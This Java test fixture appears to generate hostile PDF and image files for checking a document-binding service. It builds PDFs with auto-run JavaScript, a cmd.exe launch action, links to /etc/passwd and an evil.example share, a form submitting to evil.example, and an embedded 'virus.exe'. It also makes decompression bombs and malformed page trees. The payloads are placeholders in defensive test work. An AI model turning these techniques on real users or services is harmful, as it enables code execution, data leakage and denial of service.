package fr.crig.avis.briefing;

import java.io.ByteArrayOutputStream;
import java.io.DataOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.zip.CRC32;
import java.util.zip.DeflaterOutputStream;
import java.util.zip.GZIPInputStream;
import org.apache.pdfbox.cos.COSArray;
import org.apache.pdfbox.cos.COSDictionary;
import org.apache.pdfbox.cos.COSInteger;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDDocumentNameDictionary;
import org.apache.pdfbox.pdmodel.PDEmbeddedFilesNameTreeNode;
import org.apache.pdfbox.pdmodel.PDJavascriptNameTreeNode;
import org.apache.pdfbox.pdmodel.common.PDRectangle;
import org.apache.pdfbox.pdmodel.common.PDStream;
import org.apache.pdfbox.pdmodel.common.filespecification.PDComplexFileSpecification;
import org.apache.pdfbox.pdmodel.common.filespecification.PDEmbeddedFile;
import org.apache.pdfbox.pdmodel.interactive.action.PDAction;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionLaunch;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionRemoteGoTo;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionSubmitForm;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionURI;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotation;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationFileAttachment;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationLink;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationWidget;

/** Files as somebody would make them to harm whoever opens the book, or the service that binds it. */
final class HostilePapers {

    private static final int BOMB = 30_000;
    private static final int ONE_DOT_A_BIT = 1;
    private static final int GREY = 0;

    private HostilePapers() {}

    static byte[] script() {
        return Papers.pdf("Script", 1, document -> {
            document.getDocumentCatalog().setOpenAction(new PDActionJavaScript("app.alert(1)"));
            document.getPage(0).getCOSObject().setItem(COSName.AA, opened(new PDActionJavaScript("app.alert(2)")));
            var scripts = new PDJavascriptNameTreeNode();
            scripts.setNames(Map.of("start", new PDActionJavaScript("app.alert(3)")));
            var names = new PDDocumentNameDictionary(document.getDocumentCatalog());
            names.setJavascript(scripts);
            document.getDocumentCatalog().setNames(names);
        });
    }

    private static COSDictionary opened(PDAction action) {
        var actions = new COSDictionary();
        actions.setItem(COSName.O, action);
        return actions;
    }

    static byte[] launcher() {
        return Papers.pdf("Lanceur", 1, document -> {
            var launch = new PDActionLaunch();
            launch.setF("cmd.exe");
            annotate(document, link(launch));
        });
    }

    static byte[] links() {
        return Papers.pdf("Liens", 1, document -> {
            var form = new PDActionSubmitForm();
            form.getCOSObject().setString(COSName.F, "https://evil.example/");
            annotate(
                    document,
                    link(address("javascript:alert(1)")),
                    link(address("file:///etc/passwd")),
                    link(address("\\\\evil.example\\share")),
                    link(new PDActionRemoteGoTo()),
                    link(form));
        });
    }

    static byte[] carrier() {
        return Papers.pdf("Cheval", 1, document -> {
            var file = new PDComplexFileSpecification();
            file.setFile("virus.exe");
            file.setEmbeddedFile(new PDEmbeddedFile(document));
            var files = new PDEmbeddedFilesNameTreeNode();
            files.setNames(Map.of("virus.exe", file));
            var names = new PDDocumentNameDictionary(document.getDocumentCatalog());
            names.setEmbeddedFiles(files);
            document.getDocumentCatalog().setNames(names);
            var attachment = new PDAnnotationFileAttachment();
            attachment.setFile(file);
            annotate(document, attachment);
        });
    }

    static byte[] form() {
        return Papers.pdf("Formulaire", 1, document -> {
            var form = new COSDictionary();
            form.setString(COSName.getPDFName("XFA"), "<xdp:xdp/>");
            document.getDocumentCatalog().getCOSObject().setItem(COSName.ACRO_FORM, form);
            var field = new PDAnnotationWidget();
            field.setRectangle(new PDRectangle(10, 10, 100, 20));
            field.setAction(new PDActionJavaScript("app.alert(4)"));
            field.getCOSObject().setItem(COSName.AA, opened(new PDActionJavaScript("app.alert(5)")));
            annotate(document, field);
        });
    }

    private static void annotate(PDDocument document, PDAnnotation... annotations) {
        document.getPage(0).setAnnotations(List.of(annotations));
    }

    private static PDActionURI address(String address) {
        var action = new PDActionURI();
        action.setURI(address);
        return action;
    }

    private static PDAnnotation link(PDAction action) {
        var link = new PDAnnotationLink();
        link.setRectangle(new PDRectangle(10, 10, 100, 20));
        link.setAction(action);
        return link;
    }

    /** Says that its table of contents is where there is none. */
    static byte[] lost() {
        String text = new String(Papers.pdf("Perdu", 1), StandardCharsets.ISO_8859_1);
        return text.replaceFirst("startxref\\s+\\d+", "startxref\n999999999").getBytes(StandardCharsets.ISO_8859_1);
    }

    static byte[] empty() {
        return Papers.pdf("Vide", 0);
    }

    static byte[] immense() {
        return Papers.pdf(
                "Immense", 1, document -> document.getPage(0).setMediaBox(new PDRectangle(2_000_000_000f, 1e30f)));
    }

    /** Its pages hold themselves. */
    static byte[] circle() {
        return Papers.pdf("Boucle", 1, document -> {
            COSDictionary root = document.getPages().getCOSObject();
            var kids = new COSArray();
            kids.add(root);
            kids.add(document.getPage(0));
            root.setItem(COSName.KIDS, kids);
            root.setInt(COSName.COUNT, 2);
        });
    }

    /** 30 000 dots by 30 000, all black: a hundred kilobytes. */
    static byte[] pngBomb() {
        var bytes = new ByteArrayOutputStream();
        try (var png = new DataOutputStream(bytes)) {
            png.write(new byte[] {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1a, '\n'});
            var head = new ByteArrayOutputStream();
            var size = new DataOutputStream(head);
            size.writeInt(BOMB);
            size.writeInt(BOMB);
            size.write(new byte[] {ONE_DOT_A_BIT, GREY, 0, 0, 0});
            chunk(png, "IHDR", head.toByteArray());
            chunk(png, "IDAT", blackRows());
            chunk(png, "IEND", new byte[0]);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return bytes.toByteArray();
    }

    private static byte[] blackRows() throws IOException {
        var bytes = new ByteArrayOutputStream();
        byte[] row = new byte[1 + BOMB / Byte.SIZE];
        try (var deflated = new DeflaterOutputStream(bytes)) {
            for (int i = 0; i < BOMB; i++) {
                deflated.write(row);
            }
        }
        return bytes.toByteArray();
    }

    private static void chunk(DataOutputStream png, String type, byte[] content) throws IOException {
        var checksum = new CRC32();
        checksum.update(type.getBytes(StandardCharsets.US_ASCII));
        checksum.update(content);
        png.writeInt(content.length);
        png.writeBytes(type);
        png.write(content);
        png.writeInt((int) checksum.getValue());
    }

    /** A small one that says it has 65 000 dots by 65 000. */
    static byte[] jpegBomb() {
        byte[] jpeg = Papers.picture("jpg", 40, 40);
        for (int i = 0; i < jpeg.length - 8; i++) {
            boolean startOfFrame = (jpeg[i] & 0xff) == 0xff && (jpeg[i + 1] & 0xff) == 0xc0;
            if (startOfFrame) {
                byte[] large = {(byte) 0xfd, (byte) 0xe8, (byte) 0xfd, (byte) 0xe8};
                System.arraycopy(large, 0, jpeg, i + 5, large.length);
                return jpeg;
            }
        }
        throw new IllegalStateException("A JPEG without a frame");
    }

    static byte[] cutJpeg() {
        return Arrays.copyOf(Papers.picture("jpg", 200, 400), 100);
    }

    /** Its objects are said in one and a half gigabytes of blanks: three kilobytes on its way, 1.5 MB as it is joined. */
    static byte[] inflating() {
        try (var file =
                new GZIPInputStream(HostilePapers.class.getResourceAsStream("/cases/gonflable-1500Mo.pdf.gz"))) {
            return file.readAllBytes();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** What is drawn on its page inflates. @param filters by which it does */
    static byte[] inflatingPage(int megabytes, COSName... filters) {
        return Papers.pdf("Page", 1, document -> {
            var stream = new PDStream(document);
            try (var target = stream.getCOSObject().createOutputStream(new COSArray(List.of(filters)))) {
                byte[] blanks = new byte[1 << 20];
                for (int i = 0; i < megabytes; i++) {
                    target.write(blanks);
                }
            } catch (IOException e) {
                throw new UncheckedIOException(e);
            }
            document.getPage(0).setContents(stream);
        });
    }

    /** Small to read and large to hold: more than a million numbers beside a page. */
    static byte[] crowded() {
        return Papers.pdf("Foule", 1, document -> {
            var numbers = new COSArray();
            for (int i = 0; i < 1_100_000; i++) {
                numbers.add(COSInteger.ONE);
            }
            document.getPage(0).getResources().getCOSObject().setItem(COSName.PATTERN, numbers);
        });
    }
}
